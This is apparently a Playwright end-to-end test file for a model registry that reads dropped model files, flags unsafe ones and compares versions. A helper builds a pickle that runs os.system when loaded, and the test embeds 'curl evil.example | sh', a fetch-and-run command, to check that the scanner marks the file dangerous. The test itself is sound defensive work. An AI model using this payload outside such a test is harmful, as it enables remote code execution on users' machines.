/**
 * Dropping model files: Stemma reads their headers in the browser, fills in the register
 * form, shows each file's format, metadata and safety verdict, keeps a summary on the
 * version, and compares two versions' files.
 */
import { copyFile, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Locator, Page } from '@playwright/test';
import { expect, test } from './support/fixtures';
import { createModel, modelPath, start } from './registry-steps';

const fixtures = 'tests/fixtures/models';

/** A protocol-2 pickle that runs `os.system(command)` when unpickled. */
function maliciousPickle(command: string): Buffer {
  const arg = Buffer.from(command, 'utf8');
  const length = Buffer.alloc(4);
  length.writeUInt32LE(arg.length);
  return Buffer.concat([
    Buffer.from([0x80, 0x02]), // PROTO 2
    Buffer.from('cos\nsystem\n', 'latin1'), // GLOBAL os.system
    Buffer.from('X', 'latin1'), // BINUNICODE
    length,
    arg,
    Buffer.from([0x85]), // TUPLE1
    Buffer.from('R.', 'latin1'), // REDUCE, STOP
  ]);
}

/** A safetensors file holding zero-filled tensors of the given dtype and shapes. */
function safetensors(dtype: 'F32' | 'F16', tensors: Record<string, number[]>): Buffer {
  const width = dtype === 'F32' ? 4 : 2;
  const header: Record<string, unknown> = { __metadata__: { format: 'pt' } };
  let offset = 0;
  for (const [name, shape] of Object.entries(tensors)) {
    const bytes = shape.reduce((a, b) => a * b, 1) * width;
    header[name] = { dtype, shape, data_offsets: [offset, offset + bytes] };
    offset += bytes;
  }
  const json = Buffer.from(JSON.stringify(header));
  const size = Buffer.alloc(8);
  size.writeBigUInt64LE(BigInt(json.length));
  return Buffer.concat([size, json, Buffer.alloc(offset)]);
}

/** Writes a model folder as a user would have it on disk; returns its path. */
async function modelFolder(root: string): Promise<string> {
  const folder = join(root, 'flownet-export');
  await mkdir(join(folder, 'mlflow'), { recursive: true });
  await mkdir(join(folder, '.git'), { recursive: true });
  for (const name of [
    'flownet_ann_final_model.keras',
    'onnx_light_squeezenet.onnx',
    'hf_safetensors_samples_overall.safetensors',
  ]) {
    await copyFile(join(fixtures, name), join(folder, name));
  }
  await copyFile(join(fixtures, 'MLmodel'), join(folder, 'mlflow', 'MLmodel'));
  await writeFile(join(folder, 'preprocess.pkl'), maliciousPickle('curl evil.example | sh'));
  await writeFile(join(folder, 'NOTES.txt'), 'Exported on Tuesday.\n');
  await writeFile(join(folder, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  return folder;
}

function droppedFile(page: Page, path: string): Locator {
  return page.locator(`[data-testid="dropped-file"][data-path="${path}"]`);
}

/** The form's rows of `noun` ('tag' or 'parameter') as a record. */
async function formRows(page: Page, noun: string): Promise<Record<string, string>> {
  const rows: Record<string, string> = {};
  for (let index = 1; ; index++) {
    const key = page.getByLabel(`${noun} ${index} key`);
    if ((await key.count()) === 0) return rows;
    rows[await key.inputValue()] = await page.getByLabel(`${noun} ${index} value`).inputValue();
  }
}

let workDir: string;

test.beforeEach(async () => {
  workDir = await mkdtemp(join(tmpdir(), 'stemma-model-files-'));
});

test.afterEach(async () => {
  await rm(workDir, { recursive: true, force: true });
});

test('a dropped folder fills in the register form and flags a dangerous pickle', async ({
  page,
}) => {
  await start(page);
  await createModel(page, 'flownet');
  await page.goto(`${modelPath('flownet')}/register`);

  await page.getByTestId('folder-input').setInputFiles(await modelFolder(workDir));

  const progress = page.getByTestId('drop-progress');
  await expect(progress).toContainText('Hashed 6 of 6 · Read 6 of 6');
  await expect(progress).toContainText('skipped 1 hidden');
  await expect(progress.getByRole('progressbar')).toHaveAttribute('aria-valuenow', '12');

  const keras = droppedFile(page, 'flownet_ann_final_model.keras');
  await expect(keras.getByTestId('file-format')).toHaveText('Keras 3');
  await expect(keras).toContainText('Sequential');
  await expect(keras.locator('[data-fact="Parameters"] dd')).toHaveText('10.8K');
  await expect(keras.locator('[data-fact="Parameters"] dd')).toHaveAttribute('title', '10,786');
  await expect(keras.getByTestId('safety-verdict')).toHaveAttribute('data-verdict', 'safe');

  const onnx = droppedFile(page, 'onnx_light_squeezenet.onnx');
  await expect(onnx.getByTestId('file-format')).toHaveText('ONNX');
  await expect(onnx.locator('[data-fact="Opset"] dd')).toHaveText('ai.onnx 9');
  await expect(onnx.locator('[data-fact="Inputs"]')).toContainText('data_0 FLOAT [1, 3, 224, 224]');
  await expect(onnx.locator('[data-fact="Producer"] dd')).toHaveText('onnx-caffe2');

  await expect(droppedFile(page, 'mlflow/MLmodel').getByTestId('file-format')).toHaveText(
    'MLflow MLmodel',
  );
  await expect(droppedFile(page, 'NOTES.txt').getByTestId('file-error')).toContainText(
    'Not a model file',
  );

  const pickle = droppedFile(page, 'preprocess.pkl');
  await expect(pickle.getByTestId('safety-verdict')).toHaveAttribute('data-verdict', 'dangerous');
  await expect(pickle.getByTestId('safety-verdict')).toHaveText(/Safety: dangerous/);
  await expect(pickle.getByTestId('safety-report')).toContainText('os.system');

  expect(await formRows(page, 'tag')).toEqual({
    format: 'keras-v3',
    framework: 'keras',
    architecture: 'Sequential',
  });
  expect(await formRows(page, 'parameter')).toEqual({ parameter_count: '10786' });
  await expect(page.getByTestId('prefill-note')).toContainText('tag format');

  const submit = page.getByTestId('submit-version');
  await expect(submit).toBeDisabled();
  await page.getByTestId('confirm-dangerous').getByRole('checkbox').check();
  await expect(submit).toBeEnabled();
  await page.getByLabel('tag 3 value').fill('FlowNet-ANN');
  await submit.click();
  await page.waitForURL(/\/versions\/1$/);

  const table = page.getByTestId('files-table');
  await expect(table.locator('tbody tr')).toHaveCount(6);
  await expect(table).toContainText('mlflow/MLmodel');

  const kerasSummary = page.locator('[data-testid="file-summary"][data-file$=".keras"]');
  await expect(kerasSummary).toContainText('Sequential');
  await expect(kerasSummary.locator('[data-fact="Layer types"]')).toContainText('Dense');
  const pickleSummary = page.locator('[data-testid="file-summary"][data-file="preprocess.pkl"]');
  await expect(pickleSummary.getByTestId('safety-verdict')).toHaveAttribute(
    'data-verdict',
    'dangerous',
  );
  await expect(page.locator('[data-testid="file-summary"][data-file="NOTES.txt"]')).toHaveCount(0);

  const safetensorsSummary = page.locator(
    '[data-testid="file-summary"][data-file$=".safetensors"]',
  );
  await safetensorsSummary.getByTestId('tensor-table').locator('summary').click();
  await expect(safetensorsSummary.locator('tbody tr')).toHaveCount(9);

  const tags = page.locator('.tag-editor .tags');
  await expect(tags).toContainText('architecture=FlowNet-ANN');
  await expect(tags).toContainText('framework=keras');
  await expect(page.getByRole('row', { name: 'parameter_count 10786' })).toBeVisible();
});

/** Drops files on the drop zone the way a browser does, with a DataTransfer made in the page. */
async function dropFiles(page: Page, files: { name: string; bytes: Buffer }[]) {
  const payload = files.map((file) => ({ name: file.name, bytes: [...file.bytes] }));
  await page.getByTestId('file-drop').evaluate((zone, dropped) => {
    const transfer = new DataTransfer();
    for (const file of dropped)
      transfer.items.add(new File([new Uint8Array(file.bytes)], file.name));
    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true }));
  }, payload);
}

async function registerDropped(page: Page, files: { name: string; bytes: Buffer }[]) {
  await page.goto(`${modelPath('tiny-lm')}/register`);
  await dropFiles(page, files);
  await expect(page.getByTestId('drop-progress')).toContainText(
    `Read ${files.length} of ${files.length}`,
  );
  await page.getByTestId('submit-version').click();
  await page.waitForURL(/\/versions\/\d+$/);
  return page.getByTestId('version-id').innerText();
}

test('a quantised copy registered next shows its tensor changes and a suggested relation', async ({
  page,
}) => {
  const shapes = { 'embed.weight': [64, 16], 'head.weight': [16, 4], 'head.bias': [4] };
  await start(page);
  await createModel(page, 'tiny-lm');

  const first = await registerDropped(page, [
    { name: 'model.safetensors', bytes: safetensors('F32', shapes) },
  ]);

  await page.goto(`${modelPath('tiny-lm')}/register`);
  await dropFiles(page, [
    { name: 'model.safetensors', bytes: safetensors('F16', shapes) },
    { name: 'broken.onnx', bytes: Buffer.alloc(0) },
  ]);
  await expect(droppedFile(page, 'broken.onnx').getByTestId('file-error')).toContainText(
    'Empty file',
  );
  await expect(droppedFile(page, 'model.safetensors').getByTestId('file-format')).toHaveText(
    'safetensors',
  );
  await page.getByTestId('submit-version').click();
  await page.waitForURL(/\/versions\/2$/);
  const second = await page.getByTestId('version-id').innerText();

  await page.goto(`/compare?v=${first}&v=${second}`);
  const diff = page.getByTestId('version-diff');
  await expect(diff.locator('h3')).toHaveText('tiny-lm v1 → tiny-lm v2');
  const changed = diff.locator('[data-testid="file-diff"][data-file="model.safetensors"]');
  await expect(changed).toContainText('Tensors re-typed (3)');
  await expect(changed).toContainText('embed.weight F32 → F16');
  await expect(diff.locator('[data-testid="file-diff"][data-file="broken.onnx"]')).toHaveAttribute(
    'data-status',
    'added',
  );
  const suggestion = diff.getByTestId('suggested-relation');
  await expect(suggestion).toContainText(
    'Suggested relation: tiny-lm v2 quantized from tiny-lm v1',
  );
  await expect(suggestion).toContainText('stored in fewer bits');

  // Confirming the suggestion records it, and the lineage shows it.
  await suggestion.getByRole('button', { name: 'Record this link' }).click();
  await expect(suggestion.getByTestId('relation-recorded')).toBeVisible();
  await page.goto(`/models/tiny-lm/versions/2`);
  await expect(page.getByTestId('lineage-edges')).toContainText('quantized from');
  // The version page shows the same changes against the version before it.
  const changes = page.getByTestId('changes-since-previous');
  await expect(changes).toContainText('Changes since v1');
  await expect(changes).toContainText('Recorded in the lineage');
});
